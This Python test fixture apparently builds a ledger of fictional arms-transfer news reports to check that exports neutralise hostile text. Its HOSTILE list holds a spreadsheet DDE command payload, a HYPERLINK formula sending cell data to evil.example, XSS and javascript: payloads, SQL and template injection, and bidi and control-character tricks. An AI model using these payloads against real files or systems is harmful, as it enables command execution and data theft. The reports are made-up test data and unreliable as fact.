"""A ledger in which everything that could do something in another program stands wherever a text can stand."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

from tests.weighing.reports import GB, IR, TWO_PEOPLE, US, Told, counted, during, report, source

from weighbridge.identity import document_id, statement_id
from weighbridge.keeping import keep
from weighbridge.ledger import add_review, open_ledger
from weighbridge.model import Details, Measure, Quantity, Statement, Value

HOSTILE: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " \u00a0=1+1",
    "\uff1d1+1",
    "fine;=1+1;fine",
    'fine";=1+1;"fine',
    "fine\n=1+1\tx",
    "(200)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>]]>&amp;",
    "javascript:alert(1)",
    "\u202egnp.exe \u2066turned",
    "\x1b[31mred\x1b]0;title\x07",
    "lone \ud800 and \udfff here",
    "two \ud83d\ude00"[:5] + "\ude00 in a row",
    "a\x00b\x01c\ufffe\uffff",
    "'; DROP TABLE statements; --",
    "{{7*7}} ${7*7} %s",
    "\U000e0041\u200b\ufeffhidden",
    "x" * 100_000,
)
ACTIVE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff\ufeff\ufffe\uffff]"
)
"""What stands in no export that is made for other programs, but for JSON lines, where it is escaped."""

PLAIN: tuple[Told, ...] = (
    report(
        "Iran has sent 200 missiles to Russia, two people told Harbour Wire.",
        TWO_PEOPLE,
        on="2024-03-01",
        quantity=counted(200, "200"),
        time=during("2024-02"),
    ),
    report("Iran's foreign ministry denied it.", IR, on="2024-03-02", outlet="Coast Courier", stance="denies"),
    report(
        "Russia has Iran's 200 missiles now, the White House said.",
        US,
        on="2024-05-03",
        outlet="Island Times",
        quantity=counted(200, "200"),
        time=during("2024-02"),
        goods="Fateh-110 missiles",
    ),
    report("Britain's defence ministry confirmed it.", GB, on="2024-05-05", outlet="Hill Gazette", stance="confirms"),
    report("Any such drones would be answered.", US, item="uav", goods="drones", stance="warns"),
    report("Somebody sent Mali some rifles.", outlet="No Date Post", on=None, supplier=None, recipient="ML"),
)
MISSILES = "IR-RU-missile.ballistic-2024"


def hostile_report(number: int, text: str) -> Told:
    """A document in which every text of others is ``text``."""
    document, statement = report(
        f"{text} ({number})",
        source("media", None, text),
        outlet=text,
        on=None if number % 5 == 0 else f"2024-03-{number % 28 + 1:02d}",
        stance=("asserts", "denies", "confirms")[number % 3],
        goods=text,
        via=[source("anonymous", "US", text)],
        quantity=Quantity(number, 10**30, text),
    )
    document = replace(
        document,
        id=f"{text}-{number}",
        url=text if number % 2 else f"https://news.example/{number}",
        title=text,
        details=Details(byline=text, original=f"{number:064x}"),
    )
    return document, replace(statement, value=Value(1.5, "USD", text))


def make(path: Path, hostile: bool = True) -> Path:
    """The ledger: plain reports, hostile ones, measures, a second reading, reviews."""
    ledger = open_ledger(path)
    told = [*PLAIN, *(hostile_report(*one) for one in enumerate(HOSTILE) if hostile)]
    for number, (document, statement) in enumerate(told):
        evidence, target = statement.evidence, statement.source.text
        measure = Measure(evidence, 0, len(evidence), "US", target, "IR", "sanctions", "asserts")
        keep(ledger, document, [statement], [measure] if number % 2 else [], "test", "1")
    document, statement = PLAIN[0]
    later: Statement = replace(statement, confidence=0.75)
    keep(ledger, document, [later], [], "test", "2")
    key = statement_id(document_id(document), statement)
    add_review(ledger, key, "accept", name="Ada", reason=HOSTILE[0], at="2024-06-01T00:00:00+00:00")
    fixed = replace(statement, quantity=counted(220, "200"))
    add_review(ledger, key, "correct", name="Ada", corrected=fixed, at="2024-06-02T00:00:00+00:00", way="command")
    ledger.close()
    return path
